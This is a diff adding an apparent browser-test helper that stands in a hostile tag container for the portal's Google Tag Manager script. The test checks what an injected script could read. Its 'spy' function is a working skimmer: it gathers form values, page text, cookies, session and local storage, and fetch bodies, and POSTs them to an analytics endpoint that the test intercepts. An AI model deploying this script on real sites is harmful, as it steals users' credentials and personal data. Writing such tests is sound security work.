@@ -1,0 +1,109 @@
+import { hydrated, type Customer } from "./customer";
+
+declare global {
+  interface Window {
+    __remixRouter?: { navigate(to: string): Promise<void> };
+  }
+}
+
+/** What a hostile tag container saw at one moment, and on which page. */
+export interface Sighting {
+  page: string;
+  text: string;
+}
+
+const REPORT = "https://www.google-analytics.com/collect";
+
+/** Reads whatever a script of another host can reach, again and again, and reports what changed. Runs in the browser. */
+function spy(report: string): void {
+  let last = "";
+  const windows: (Window | null)[] = [];
+  const tryTo = (read: () => unknown): unknown => {
+    try {
+      return read();
+    } catch {
+      return "refused";
+    }
+  };
+  const look = (extra: unknown) => {
+    const text = JSON.stringify([
+      extra,
+      [...document.querySelectorAll("input, select, textarea")].map((field) => [
+        Reflect.get(field, "name"),
+        Reflect.get(field, "value"),
+      ]),
+      document.body.innerText,
+      window.location.href,
+      document.referrer,
+      document.cookie,
+      { ...sessionStorage },
+      { ...localStorage },
+      tryTo(() =>
+        Reflect.get(window, "navigation")
+          .entries()
+          .map(({ url }: { url: string | null }) => url),
+      ),
+      windows.map((opened) => tryTo(() => opened?.document.body.innerText)),
+    ]);
+    if (text === last) return;
+    last = text;
+    const body = JSON.stringify({ page: window.location.pathname, text });
+    void fetch(report, { method: "POST", mode: "no-cors", keepalive: body.length < 60_000, body });
+  };
+  for (const event of ["input", "keydown", "submit", "change"])
+    window.addEventListener(event, ({ type }) => look(type), true);
+  window.addEventListener(
+    "click",
+    () => windows.push(window.open("/prepaid-recharge?amount=4321", "spy")),
+    true,
+  );
+  const { fetch: plainFetch } = window;
+  window.fetch = (input, init) => {
+    if (input !== report) look(typeof init?.body === "string" ? init.body : `${String(init?.body)}`);
+    return plainFetch(input, init);
+  };
+  setInterval(() => look("look"), 20);
+}
+
+/** Puts the hostile container where the operator's is loaded from; returns what it reports. */
+export async function plantContainer({ session }: Customer): Promise<Sighting[]> {
+  const sightings: Sighting[] = [];
+  await session.context.route("https://www.googletagmanager.com/**", (route) =>
+    route.fulfill({ contentType: "text/javascript", body: `(${spy.toString()})(${JSON.stringify(REPORT)})` }),
+  );
+  await session.context.route(`${REPORT}**`, async (route) => {
+    const sighting: Sighting = JSON.parse(route.request().postData() ?? "{}");
+    sightings.push(sighting);
+    await route.fulfill({ status: 204 });
+  });
+  return sightings;
+}
+
+/** A customer who comes to every page by links, from one with the container. */
+export function comingFromTaggedPage(customer: Customer): Customer {
+  return {
+    ...customer,
+    async goTo(path) {
+      await customer.goTo("/about");
+      if (!(await linkTo(customer, path))) await followsLink(customer, "/");
+      await followsLink(customer, path);
+    },
+  };
+}
+
+const linkTo = async ({ page }: Customer, path: string) =>
+  (await page.locator(`a[href="${path}"]`).count()) > 0;
+
+/** Follows the page's link to an address of ours. */
+export async function followsLink(customer: Customer, path: string): Promise<void> {
+  await customer.page.locator(`a[href="${path}"]`).first().click();
+  await customer.arrives(path);
+  await hydrated(customer.page);
+}
+
+/** Goes where the portal's own scripts may lead without a link. */
+export async function isLedTo(customer: Customer, path: string): Promise<void> {
+  await customer.page.evaluate((to) => void window.__remixRouter?.navigate(to), path);
+  await customer.arrives(path);
+  await hydrated(customer.page);
+}
